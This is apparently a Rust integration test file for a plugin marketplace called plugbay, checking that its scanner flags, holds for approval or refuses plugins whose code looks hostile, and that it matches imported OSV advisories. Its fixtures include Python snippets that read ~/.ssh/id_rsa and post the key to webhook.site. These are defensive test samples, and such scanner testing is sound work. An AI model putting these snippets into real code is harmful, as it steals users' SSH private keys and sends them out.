//! Packages whose code looks as an attack would: what an operator hears of them, and what they need before they run.

use plugbay::domain::VerdictPolicy;
use reqwest::Method;
use serde_json::{Value, json};

use crate::support::app::{Answer, TestApp, form, send, until};
use crate::support::author::{manifest, pack};
use crate::support::database;

const CLEAN: &str = "class Plugin:\n    def execute(self, context):\n        return context\n";

/// One stage of an attack.
const SUSPICIOUS: &str =
    "import os\n\nKEY = open(os.path.expanduser('~/.ss' + 'h/id_rsa'))\n\nclass Plugin:\n    pass\n";

/// Two of them.
const MALICIOUS: &str = "import os\nimport requests\n\nkey = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n\
                         requests.post('https://webhook.site/x', data=key)\n\nclass Plugin:\n    pass\n";

fn archive(name: &str, version: &str, code: &str) -> Vec<u8> {
    pack(&[("plugin.yaml", manifest(name, version).as_bytes()), ("main.py", code.as_bytes())])
}

async fn service() -> TestApp {
    TestApp::setup().unsigned().without_engine().start().await
}

async fn accept(app: &TestApp, name: &str) -> Answer {
    let path = format!("/api/plugins/{name}/permissions/approve");
    app.post(&path, &json!({"accept_risks": ["scan-suspicious"]})).await
}

/// Without an engine a plugin that may run is not started for that reason alone.
async fn expect_may_run(app: &TestApp, name: &str) {
    enable(app, name).await.expect_problem(503, "engine-unavailable");
}

async fn enable(app: &TestApp, name: &str) -> Answer {
    send(app.request(Method::POST, &format!("/api/plugins/{name}/enable"))).await
}

async fn scan_again(app: &TestApp, name: &str) -> Value {
    send(app.request(Method::POST, &format!("/api/plugins/{name}/scan"))).await.expect(200)
}

async fn shown(app: &TestApp, name: &str) -> Value {
    app.get(&format!("/api/plugins/{name}")).await.expect(200)
}

#[tokio::test]
async fn what_looks_suspicious_waits_until_it_is_accepted_by_name() {
    let app = service().await;
    let installed = app.install(&archive("odd", "1.0.0", SUSPICIOUS), None).await.expect(201);
    let warning = "its code looks suspicious: plugbay scan --installed odd shows why";
    assert!(installed["warnings"].as_array().unwrap().contains(&json!(warning)), "{installed}");
    assert_eq!(installed["risks"], json!(["scan-suspicious"]));
    let found = app.get("/api/plugins/odd/scan").await.expect(200);
    assert_eq!(
        (&found["verdict"], &found["outdated"], &found["complete"]),
        (&json!("suspicious"), &json!(false), &json!(true))
    );
    assert_eq!(
        (&found["findings"][0]["path"], &found["findings"][0]["line"]),
        (&json!("main.py"), &json!(3)),
        "{found}"
    );

    let refused = enable(&app, "odd").await.expect_problem(409, "permissions-pending");
    assert_eq!(refused["how"], "plugbay approve odd --accept-risk scan-suspicious");
    accept(&app, "odd").await.expect(200);
    expect_may_run(&app, "odd").await;
    assert_eq!(shown(&app, "odd").await["scan"], "suspicious");
}

#[tokio::test]
async fn what_looks_malicious_does_not_come_in() {
    let app = service().await;
    let refused = app.install(&archive("bad", "1.0.0", MALICIOUS), None).await.expect_problem(422, "scan-refused");
    let detail = refused["detail"].as_str().unwrap();
    assert!(detail.starts_with("the code of `bad` looks malicious: main.py:4:"), "{detail}");
    app.get("/api/plugins/bad").await.expect_problem(404, "plugin-unknown");
    assert_eq!(app.audit_actions().await.last().unwrap(), "plugin.refused");
    let left = |folder: &str| std::fs::read_dir(app.data().join(folder)).unwrap().count();
    assert_eq!([left("archives"), left("packages"), left("staging")], [0, 0, 0]);
    // Neither as the next version of something harmless.
    app.install(&archive("bad", "1.0.0", CLEAN), None).await.expect(201);
    let update = archive("bad", "1.1.0", MALICIOUS);
    app.upload("/api/plugins/bad/update", &update, None).await.expect_problem(422, "scan-refused");
    assert_eq!(shown(&app, "bad").await["version"], "1.0.0");
}

#[tokio::test]
async fn operators_say_what_a_verdict_leads_to() {
    let with = async |suspicious, malicious| {
        let policy = move |config: &mut plugbay::config::Config| {
            (config.security.scan.suspicious, config.security.scan.malicious) = (suspicious, malicious);
        };
        TestApp::setup().unsigned().without_engine().with(policy).start().await
    };
    let app = with(VerdictPolicy::Warn, VerdictPolicy::Confirm).await;
    app.install(&archive("odd", "1.0.0", SUSPICIOUS), None).await.expect(201);
    expect_may_run(&app, "odd").await;
    app.install(&archive("bad", "1.0.0", MALICIOUS), None).await.expect(201);
    enable(&app, "bad").await.expect_problem(409, "permissions-pending");
    accept(&app, "bad").await.expect(200);
    expect_may_run(&app, "bad").await;

    let app = with(VerdictPolicy::Refuse, VerdictPolicy::Refuse).await;
    app.install(&archive("odd", "1.0.0", SUSPICIOUS), None).await.expect_problem(422, "scan-refused");
}

/// What was accepted of one archive says nothing about another one.
#[tokio::test]
async fn an_update_that_looks_suspicious_waits_each_time() {
    let app = service().await;
    app.install(&archive("odd", "1.0.0", CLEAN), None).await.expect(201);
    for (version, code) in [("1.1.0", SUSPICIOUS.to_owned()), ("1.2.0", format!("{SUSPICIOUS}\n"))] {
        let sent = app.upload("/api/plugins/odd/update", &archive("odd", version, &code), None).await.expect(200);
        assert_eq!(
            (&sent["status"], &sent["permission_diff"]["added"]),
            (&json!("pending_approval"), &json!(["risk scan-suspicious"]))
        );
        assert_eq!(app.get("/api/plugins/odd/scan").await.expect(200)["pending"]["verdict"], "suspicious");
        accept(&app, "odd").await.expect(200);
        assert_eq!(shown(&app, "odd").await["version"], version);
    }
    // It stands with the bytes, not with what is granted to them.
    let revoke = json!({"permissions": ["network_access"]});
    app.post("/api/plugins/odd/permissions/revoke", &revoke).await;
    expect_may_run(&app, "odd").await;
}

/// It served before its look was known. Going back to it is a decision, as letting it in is.
#[tokio::test]
async fn going_back_to_what_looks_suspicious_is_a_decision() {
    let app = service().await;
    app.install(&archive("odd", "1.0.0", CLEAN), None).await.expect(201);
    app.upload("/api/plugins/odd/update", &archive("odd", "1.1.0", CLEAN), None).await.expect(200);
    let setup = app.stop().await;
    let rules = async |verdict: &str| {
        let change =
            format!("UPDATE versions SET scan = json_set(scan, '$.verdict', '{verdict}') WHERE version = '1.0.0'");
        database::run(&setup.data(), &change).await;
    };
    rules("suspicious").await;
    let app = setup.start().await;
    let token = app.token(&["read", "install"], None).await;
    let back = async |token: &str| {
        send(app.bare(Method::POST, "/api/plugins/odd/rollback").bearer_auth(token).json(&json!({}))).await
    };
    let refused = back(&token).await.expect_problem(403, "scope-missing");
    assert!(refused["detail"].as_str().unwrap().contains("risk scan-suspicious"), "{refused}");
    back(&app.token).await.expect(200);
}

#[tokio::test]
async fn new_rules_read_again_what_is_installed() {
    let app = service().await;
    app.install(&archive("odd", "1.0.0", SUSPICIOUS), None).await.expect(201);
    let setup = app.stop().await;
    // As rules wrote it that found nothing.
    let older = "UPDATE versions SET scan = json_set(scan, '$.verdict', 'clean', '$.rules', 'older')";
    database::run(&setup.data(), older).await;
    let app = setup.start().await;
    app.until_recorded("plugin.scanned", 1).await;
    let found = app.get("/api/plugins/odd/scan").await.expect(200);
    assert_eq!((&found["verdict"], &found["outdated"]), (&json!("suspicious"), &json!(false)), "{found}");
    // What was enabled before would stay so; it does not start anew without a decision.
    enable(&app, "odd").await.expect_problem(409, "permissions-pending");
    // The demands of an operator are rules, too.
    let setup = app.stop().await.with(|config| config.security.scan.denied_imports = vec!["ctypes".to_owned()]);
    let app = setup.start().await;
    app.until_recorded("plugin.scanned", 2).await;
    assert_ne!(app.get("/api/plugins/odd/scan").await.expect(200)["rules"], found["rules"]);
}

#[tokio::test]
async fn operators_have_code_read_again() {
    let app = service().await;
    app.install(&archive("odd", "1.0.0", SUSPICIOUS), None).await.expect(201);
    // As it is in a data directory of a version that did not read code.
    let setup = app.stop().await;
    database::run(&setup.data(), "UPDATE versions SET scan = NULL").await;
    let app = setup.with(|config| config.security.scan.program = "/bin/false".into()).start().await;
    // A reader that fails has read nothing, and says so.
    let found = scan_again(&app, "odd").await;
    assert_eq!(
        (&found["verdict"], &found["findings"][0]["rule"]),
        (&json!("suspicious"), &json!("scan-failed")),
        "{found}"
    );
    let app = app.stop().await.with(|config| config.security.scan.program = "/nonexistent".into()).start().await;
    let refused = app.install(&archive("new", "1.0.0", CLEAN), None).await;
    assert_eq!(refused.status, 500, "{}", refused.text);
    app.get("/api/plugins/new").await.expect_problem(404, "plugin-unknown");

    let program =
        |config: &mut plugbay::config::Config| config.security.scan.program = env!("CARGO_BIN_EXE_plugbay").into();
    let app = app.stop().await.with(program).start().await;
    assert_eq!(scan_again(&app, "odd").await["findings"][0]["rule"], "credentials");
    assert_eq!(app.audit_actions().await.last().unwrap(), "plugin.scanned");
    let reader = app.token(&["read"], None).await;
    let path = "/api/plugins/odd/scan";
    send(app.bare(Method::POST, path).bearer_auth(&reader)).await.expect_problem(403, "scope-missing");
    send(app.bare(Method::GET, path).bearer_auth(&reader)).await.expect(200);
    let other = app.token(&["read", "operate"], Some(&["a-*"])).await;
    send(app.bare(Method::POST, path).bearer_auth(other)).await.expect_problem(404, "plugin-unknown");
    app.get("/api/plugins/nothing/scan").await.expect_problem(404, "plugin-unknown");
}

/// A package that brings `left` 1.0.0 along.
fn with_vendor(name: &str) -> Vec<u8> {
    let manifest = format!("{}dependencies: [left]\n", manifest(name, "1.0.0"));
    let sha256 = format!("sha256:{}", "0".repeat(64));
    let packages = json!([{"name": "left", "version": "1.0.0", "tags": "py3-none-any", "sha256": sha256}]);
    let lock = json!({"python": "3.11", "platform": "any", "packages": packages}).to_string();
    pack(&[
        ("plugin.yaml", manifest.as_bytes()),
        ("main.py", CLEAN.as_bytes()),
        ("vendor.lock", lock.as_bytes()),
        ("vendor/left.py", b"x = 1\n"),
    ])
}

async fn import(app: &TestApp, token: &str, records: &[Value]) -> Answer {
    let lines = records.iter().map(|record| record.to_string() + "\n").collect::<String>();
    let request = app.bare(Method::POST, "/api/advisories").bearer_auth(token);
    send(request.header("Content-Type", "application/octet-stream").body(lines)).await
}

#[tokio::test]
async fn advisories_that_come_in_are_compared_with_what_is_installed() {
    let app = service().await;
    app.install(&with_vendor("left-user"), None).await.expect(201);
    let told = async |app: &TestApp, name: &str| {
        let found = app.get(&format!("/api/plugins/{name}/scan")).await.expect(200);
        let hits = found["findings"].as_array().unwrap().iter().filter(|hit| hit["rule"] == "advisory");
        let hits: Vec<_> = hits.map(|hit| hit["what"].as_str().unwrap().to_owned()).collect();
        (found["outdated"].as_bool().unwrap(), hits)
    };
    assert_eq!(told(&app, "left-user").await, (false, Vec::new()));
    let about = |package: &str, id: &str| {
        let versions = json!(["1.0.0"]);
        json!({"id": id, "summary": "It leaks", "affected": [
            {"package": {"ecosystem": "PyPI", "name": package}, "versions": versions}]})
    };
    let records = [about("left", "PYSEC-2026-1"), about("right", "PYSEC-2026-2")];
    let imported = import(&app, &app.token, &records).await.expect(200);
    assert_eq!(imported["advisories"], 2);
    app.until_recorded("plugin.scanned", 1).await;
    let known = (false, vec!["left 1.0.0: PYSEC-2026-1".to_owned()]);
    assert_eq!(told(&app, "left-user").await, known);
    // They stay over a restart, and what comes next is compared with them as well.
    let app = app.restart().await;
    app.install(&with_vendor("second"), None).await.expect(201);
    assert_eq!(told(&app, "second").await, known);
    // One that says that the package is an attack keeps it out.
    import(&app, &app.token, &[about("left", "MAL-2026-1")]).await.expect(200);
    app.install(&with_vendor("third"), None).await.expect_problem(422, "scan-refused");
}

/// Each changes the rules while packages are being read by those before.
#[tokio::test]
async fn many_imports_at_once_end_up_to_date() {
    let app = service().await;
    for number in 0..6 {
        app.install(&with_vendor(&format!("user-{number}")), None).await.expect(201);
    }
    let mut taken = 0;
    for number in 0..12 {
        let record = json!({"id": format!("PYSEC-2026-{number}"), "affected": []});
        let answer = import(&app, &app.token, &[record]).await;
        taken += usize::from(answer.status == 200);
    }
    assert_eq!(taken, 12);
    app.until_recorded("plugin.scanned", 6).await;
    let all_are_new = async || {
        let mut outdated = 0;
        for number in 0..6 {
            let found = app.get(&format!("/api/plugins/user-{number}/scan")).await.expect(200);
            outdated += usize::from(found["outdated"] == true);
        }
        outdated == 0
    };
    until("all are up to date", all_are_new).await;
    // Then nothing is read any more.
    let rows = async || app.audit_actions().await.len();
    let before = rows().await;
    app.get("/api/plugins/user-0/scan").await.expect(200);
    assert_eq!(rows().await, before);
}

#[tokio::test]
async fn advisories_are_refused_as_a_whole() {
    let app = service().await;
    let refused = import(&app, &app.token, &[json!({"id": "A", "affected": []}), json!([])]).await;
    let refused = refused.expect_problem(422, "field-invalid");
    assert!(refused["errors"][0]["message"].as_str().unwrap().starts_with("line 2 is no record of OSV"), "{refused}");
    assert!(!app.data().join("advisories.ndjson").exists());
    let some = app.token(&["read", "operate"], Some(&["a-*"])).await;
    import(&app, &some, &[]).await.expect_problem(403, "scope-missing");
    let reader = app.token(&["read"], None).await;
    import(&app, &reader, &[]).await.expect_problem(403, "scope-missing");
}

#[tokio::test]
async fn each_point_of_a_rating_is_explained() {
    let app = TestApp::setup().unsigned().without_engine().start().await;
    let asks = format!("{}permissions: [chat_access, network_access]\n", manifest("chatty", "1.0.0"));
    let package = pack(&[("plugin.yaml", asks.as_bytes()), ("main.py", CLEAN.as_bytes())]);
    let token = &app.token;
    send(app.bare(Method::POST, "/api/plugins/install").bearer_auth(token).multipart(form(&package, None)))
        .await
        .expect(201);
    let reasons = |rating: &Value| {
        let points = rating["points"].as_array().unwrap().iter();
        (
            rating["value"].as_u64().unwrap(),
            points.map(|point| point["why"].as_str().unwrap().to_owned()).collect::<Vec<_>>(),
        )
    };
    let unsigned = "No trusted key signed it.";
    assert_eq!(reasons(&shown(&app, "chatty").await["risk_rating"]), (5, vec![unsigned.to_owned()]));
    let asked = app.get("/api/plugins/chatty/permissions").await.expect(200);
    assert_eq!(asked["risk_rating"]["before"]["value"], 5);
    let all = [
        unsigned,
        "It connects to every public host.",
        "It sees data that is not its own.",
        "What it sees can leave for every public host.",
    ];
    assert_eq!(reasons(&asked["risk_rating"]["after"]), (1, all.map(str::to_owned).to_vec()));
    let grant = json!({"grant": ["chat_access"], "deny": []});
    let decided = app.post("/api/plugins/chatty/permissions/approve", &grant).await.expect(200);
    let scores =
        |rating: &Value| [&rating["before"]["value"], &rating["after"]["value"]].map(|score| score.as_u64().unwrap());
    assert_eq!(scores(&decided["risk_rating"]), [5, 4]);
    let revoke = json!({"permissions": ["chat_access"]});
    let decided = app.post("/api/plugins/chatty/permissions/revoke", &revoke).await.expect(200);
    assert_eq!(scores(&decided["risk_rating"]), [4, 5]);
}
